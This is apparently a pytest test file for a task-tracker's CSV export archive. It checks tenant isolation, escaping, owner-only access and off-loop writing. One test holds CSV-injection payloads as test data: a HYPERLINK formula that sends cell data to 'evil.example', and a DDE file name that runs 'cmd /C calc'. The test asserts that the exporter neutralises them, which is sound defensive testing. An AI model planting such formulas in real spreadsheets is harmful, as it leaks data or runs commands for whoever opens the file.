"""`/export`'s archive: each CSV of a seeded company, never another company's rows, text that
survives commas, quotes, line breaks and emoji and never runs as a formula, written off the
event loop; owners only, in good standing or not; on SQLite."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import threading
import zipfile
from collections.abc import Sequence
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import select, update
from sqlalchemy.ext.asyncio import AsyncSession

from teamtasks import migrations
from teamtasks.config import Settings
from teamtasks.db import create_engine, create_session_factory, unit_of_work
from teamtasks.models import AuditLog, File, Membership, Subscription, Task, User
from teamtasks.models.base import utcnow
from teamtasks.models.enums import SubscriptionStatus, TaskPriority, TaskStatus
from teamtasks.services import comments, companies, exports, tasks
from teamtasks.services.actors import resolve_actor
from teamtasks.services.errors import Forbidden
from teamtasks.services.exports import Export
from tests.services.helpers import Team, actor_of
from tests.support import factories

Sheets = dict[str, list[list[str]]]
TRICKY = 'Pay "Acme, Inc.", then\nship 🚀\nsoon'
TITLE = 'Pay "Acme, Inc." 🚀'
HYPERLINK = '=HYPERLINK("https://evil.example/?"&B2,"open")'
NOW = datetime(2026, 11, 26, 22, 30, tzinfo=UTC)
"""01:30 on 27 November in Moscow, the company's time zone: the file is named by that day."""


def iso(value: datetime | None) -> str:
    return value.astimezone(UTC).isoformat(timespec="seconds") if value else ""


def read(export: Export) -> Sheets:
    with zipfile.ZipFile(export.path) as archive:
        return {
            name.removesuffix(".csv"): list(csv.reader(io.StringIO(archive.read(name).decode())))
            for name in archive.namelist()
        }


async def export_of(session: AsyncSession, team: Team) -> tuple[Export, Sheets]:
    async with exports.exported(session, actor=team.owner_actor, now=NOW) as export:
        return export, read(export)


async def joined(session: AsyncSession, user: User) -> str:
    membership = await session.scalar(select(Membership).where(Membership.user_id == user.id))
    assert membership is not None
    return iso(membership.created_at)


async def test_each_csv_holds_the_companys_rows(session: AsyncSession, acme: Team) -> None:
    owner = acme.owner_actor
    acme.member.last_name = "Brown"
    acme.member.username = "bob"
    due = datetime(2026, 12, 1, 20, 59, tzinfo=UTC)
    await tasks.set_due(session, actor=owner, number=1, due_at=due, now=NOW - timedelta(days=5))
    await tasks.set_status(session, actor=owner, number=1, status=TaskStatus.DONE)
    second = await tasks.create_task(session, actor=acme.member_actor, title="Write the docs")
    await tasks.set_priority(session, actor=owner, number=2, priority=TaskPriority.HIGH)
    comment = await comments.add_comment(session, actor=acme.member_actor, number=1, text="Done!")
    file = File(
        company_id=acme.company.id,
        task_id=acme.task.id,
        uploaded_by_id=acme.member.id,
        storage_key=f"company_{acme.company.id}/task_{acme.task.id}/spec.pdf",
        original_name="spec.pdf",
        content_type="application/pdf",
        size_bytes=3072,
        sha256="ab" * 32,
    )
    session.add(file)
    await session.flush()
    for row in (acme.task, second, acme.project):
        await session.refresh(row)

    export, sheets = await export_of(session, acme)

    assert export.file_name == "teamtasks-acme-2026-11-27.zip"
    assert set(sheets) == {"members", "projects", "tasks", "comments", "files", "audit"}
    assert sheets["members"] == [
        ["name", "username", "role", "joined"],
        ["Anna", "", "owner", await joined(session, acme.owner)],
        ["Mark", "", "manager", await joined(session, acme.manager)],
        ["Bob Brown", "bob", "member", await joined(session, acme.member)],
    ]
    assert sheets["projects"] == [
        ["name", "description", "archived_at", "created_by", "created_at", "updated_at"],
        ["Website", "", "", "Anna", iso(acme.project.created_at), iso(acme.project.updated_at)],
    ]
    task, docs = acme.task, second
    assert sheets["tasks"] == [
        [
            "number",
            "title",
            "description",
            "status",
            "priority",
            "project",
            "assignee",
            "author",
            "due_at",
            "completed_at",
            "created_at",
            "updated_at",
        ],
        [
            "1",
            "Acme: fix the login page",
            "",
            "done",
            "normal",
            "Website",
            "Bob Brown",
            "Anna",
            "2026-12-01T20:59:00+00:00",
            iso(task.completed_at),
            iso(task.created_at),
            iso(task.updated_at),
        ],
        [
            "2",
            "Write the docs",
            "",
            "todo",
            "high",
            "",
            "",
            "Bob Brown",
            "",
            "",
            iso(docs.created_at),
            iso(docs.updated_at),
        ],
    ]
    assert task.completed_at is not None
    assert sheets["comments"] == [
        ["task", "author", "text", "created_at"],
        ["1", "Bob Brown", "Done!", iso(comment.created_at)],
    ]
    assert sheets["files"] == [
        ["task", "name", "size", "content_type", "sha256", "uploaded_by", "created_at"],
        ["1", "spec.pdf", "3072", "application/pdf", "ab" * 32, "Bob Brown", iso(file.created_at)],
    ]
    header, *entries = sheets["audit"]
    assert header == ["created_at", "actor", "action", "entity", "details"]
    assert [(actor, action) for _, actor, action, _, _ in entries] == [
        ("Anna", "company.created"),
        ("Anna", "project.created"),
        ("Anna", "task.created"),
        ("Anna", "task.assigned"),
        ("Anna", "invite.created"),
        ("Anna", "task.due_changed"),
        ("Anna", "task.status_changed"),
        ("Bob Brown", "task.created"),
        ("Anna", "task.priority_changed"),
        ("Bob Brown", "task.commented"),
    ]
    status_changed = entries[6]
    assert status_changed[3] == f"task:{task.id}"
    assert json.loads(status_changed[4]) == {"number": 1, "before": "todo", "after": "done"}


async def test_the_export_is_audited_once_delivered_and_its_file_deleted(
    session: AsyncSession, acme: Team
) -> None:
    export, sheets = await export_of(session, acme)

    assert not export.path.exists()
    log = await session.scalar(select(AuditLog).where(AuditLog.action == "company.exported"))
    assert log is not None
    assert (log.actor_user_id, log.entity_type, log.entity_id) == (
        acme.owner.id,
        "company",
        acme.company.id,
    )
    assert log.details == {name: len(rows) - 1 for name, rows in sheets.items()}
    assert log.details["tasks"] == 1


async def test_an_export_that_was_not_delivered_is_not_audited(
    session: AsyncSession, acme: Team
) -> None:
    with pytest.raises(ConnectionError):
        async with exports.exported(session, actor=acme.owner_actor) as export:
            raise ConnectionError("Telegram did not take it")
    assert not export.path.exists()
    assert (
        await session.scalar(select(AuditLog).where(AuditLog.action == "company.exported")) is None
    )


async def test_another_companys_rows_never_appear(
    session: AsyncSession, acme: Team, globex: Team
) -> None:
    await comments.add_comment(session, actor=globex.owner_actor, number=101, text="Globex only")

    _, acme_sheets = await export_of(session, acme)
    _, globex_sheets = await export_of(session, globex)

    acme_text = repr(acme_sheets)
    for word in ("Globex", "Greg", "Gina", "Gus"):
        assert word not in acme_text
    # Globex's task number as a cell of its own (as digits it may well occur in a timestamp).
    assert "101" not in {cell for sheet in acme_sheets.values() for row in sheet for cell in row}
    assert [row[1] for row in acme_sheets["tasks"][1:]] == ["Acme: fix the login page"]
    assert [row[0] for row in globex_sheets["members"][1:]] == ["Greg", "Gina", "Gus"]
    assert [row[:3] for row in globex_sheets["comments"][1:]] == [["101", "Greg", "Globex only"]]
    assert "Acme" not in repr(globex_sheets)


async def test_commas_quotes_line_breaks_and_emoji_survive(
    session: AsyncSession, acme: Team
) -> None:
    owner = acme.owner_actor
    await tasks.create_task(session, actor=owner, title=TITLE)
    await tasks.set_description(session, actor=owner, number=2, description=TRICKY)
    await comments.add_comment(session, actor=owner, number=2, text=TRICKY)

    async with exports.exported(session, actor=owner) as export:
        sheets = read(export)
        with zipfile.ZipFile(export.path) as archive:
            raw = archive.read("comments.csv")

    assert sheets["tasks"][2][1:3] == [TITLE, TRICKY]
    assert sheets["comments"][1][2] == TRICKY
    assert raw.startswith(b"task,author,text,created_at\r\n")  # UTF-8 without a BOM
    assert '"Pay ""Acme, Inc."", then\nship 🚀\nsoon"'.encode() in raw


async def test_text_a_spreadsheet_would_run_as_a_formula_is_quoted(
    session: AsyncSession, acme: Team
) -> None:
    """OWASP's CSV injection: people's text never starts a cell with = + - @ tab or CR."""
    member = acme.member_actor
    acme.member.first_name = "@Bob"
    acme.member.username = "\rbob"
    acme.project.description = "\tindented"
    await session.flush()
    await tasks.create_task(session, actor=member, title=HYPERLINK)
    await tasks.set_description(session, actor=member, number=2, description="+7 900 000-00-00")
    await comments.add_comment(session, actor=member, number=2, text="-1+1")
    await comments.add_comment(session, actor=member, number=2, text="a = b - c")
    session.add(
        File(
            company_id=acme.company.id,
            task_id=acme.task.id,
            uploaded_by_id=acme.member.id,
            storage_key=f"company_{acme.company.id}/task_{acme.task.id}/cmd",
            original_name="=cmd|' /C calc'!A0",
            content_type="application/octet-stream",
            size_bytes=10,
            sha256="cd" * 32,
        )
    )
    await session.flush()

    _, sheets = await export_of(session, acme)

    assert sheets["members"][3][:3] == ["'@Bob", "'\rbob", "member"]
    assert sheets["projects"][1][:2] == ["Website", "'\tindented"]
    task = sheets["tasks"][2]
    assert task[:4] == ["2", f"'{HYPERLINK}", "'+7 900 000-00-00", "todo"]
    assert task[7] == "'@Bob"
    assert task[10] == iso(await session.scalar(select(Task.created_at).where(Task.number == 2)))
    assert [row[1:3] for row in sheets["comments"][1:]] == [
        ["'@Bob", "'-1+1"],
        ["'@Bob", "a = b - c"],
    ]
    assert sheets["files"][1][:3] == ["1", "'=cmd|' /C calc'!A0", "10"]
    assert [row[1] for row in sheets["audit"][1:]].count("'@Bob") == 4


async def test_each_batch_is_written_off_the_event_loop(
    session: AsyncSession, acme: Team, monkeypatch: pytest.MonkeyPatch
) -> None:
    """While a batch is formatted and deflated, the loop goes on serving other work: the
    writer asks the loop to run a coroutine and waits for its answer. On the loop's own thread
    that answer could never come (the wait times out and the export fails)."""
    loop = asyncio.get_running_loop()
    writers: set[int] = set()
    served: list[int] = []

    async def on_the_loop() -> int:
        return threading.get_ident()

    def cells(row: Any) -> Sequence[exports.Cell]:
        writers.add(threading.get_ident())
        if not served:
            served.append(asyncio.run_coroutine_threadsafe(on_the_loop(), loop).result(10))
        return tasks_sheet.cells(row)

    tasks_sheet = next(sheet for sheet in exports.SHEETS if sheet.name == "tasks")
    monkeypatch.setattr(
        exports,
        "SHEETS",
        tuple(replace(s, cells=cells) if s is tasks_sheet else s for s in exports.SHEETS),
    )
    monkeypatch.setattr(exports, "BATCH", 2)
    for number in range(2, 6):
        await tasks.create_task(session, actor=acme.owner_actor, title=f"Task {number}")

    _, sheets = await export_of(session, acme)

    assert [row[0] for row in sheets["tasks"][1:]] == ["1", "2", "3", "4", "5"]
    assert served == [threading.get_ident()]
    assert threading.get_ident() not in writers


async def test_a_company_out_of_good_standing_still_exports(
    session: AsyncSession, acme: Team
) -> None:
    await session.execute(
        update(Subscription)
        .where(Subscription.company_id == acme.company.id)
        .values(
            status=SubscriptionStatus.EXPIRED,
            current_period_start=utcnow() - timedelta(days=15),
            current_period_end=utcnow() - timedelta(days=1),
        )
    )
    owner = await actor_of(session, acme.owner, acme.company)
    assert not owner.in_good_standing()

    async with exports.exported(session, actor=owner) as export:
        tasks_csv = read(export)["tasks"]

    assert tasks_csv[1][1] == "Acme: fix the login page"


@pytest.mark.parametrize("who", ["manager_actor", "member_actor"])
async def test_only_owners_export(session: AsyncSession, acme: Team, who: str) -> None:
    with pytest.raises(Forbidden) as refused:
        async with exports.exported(session, actor=getattr(acme, who)):
            pytest.fail("the archive was made")
    assert refused.value.key == "errors.forbidden.data.export"
    assert (
        await session.scalar(select(AuditLog).where(AuditLog.action == "company.exported")) is None
    )


@pytest.mark.parametrize(
    ("name", "slug"),
    [
        ("Acme", "acme"),
        ("Ромашка & Co.", "ромашка-co"),
        ("  Big_Corp  2026 ", "big-corp-2026"),
        ("🚀🚀", "company"),
        ("x" * 39 + " y", "x" * 39),
    ],
)
def test_the_file_is_named_by_the_companys_words(name: str, slug: str) -> None:
    assert exports.slug(name) == slug


async def test_the_export_streams_on_sqlite(tmp_path: Path) -> None:
    """The demo runs on SQLite: the same queries stream from aiosqlite."""
    url = f"sqlite+aiosqlite:///{tmp_path / 'teamtasks.db'}"
    await asyncio.to_thread(migrations.upgrade, url)
    engine = create_engine(Settings(database_url=url))
    factory = create_session_factory(engine)
    try:
        async with unit_of_work(factory) as session:
            anna = await factories.user(session, first_name="Anna")
            await companies.create_company(session, user=anna, name="Acme")
            owner = await resolve_actor(session, user=anna)
            assert owner is not None
            for number in range(1, exports.BATCH + 3):
                await tasks.create_task(session, actor=owner, title=f"Task {number}, {TITLE}")
            await comments.add_comment(session, actor=owner, number=2, text=TRICKY)
            async with exports.exported(session, actor=owner) as export:
                sheets = read(export)
        assert [row[0] for row in sheets["tasks"][1:]] == [
            str(n) for n in range(1, exports.BATCH + 3)
        ]
        assert sheets["tasks"][-1][1] == f"Task {exports.BATCH + 2}, {TITLE}"
        assert sheets["comments"][1][:3] == ["2", "Anna", TRICKY]
        async with factory() as session:
            actions = (await session.scalars(select(AuditLog.action))).all()
        assert actions.count("company.exported") == 1
    finally:
        await engine.dispose()
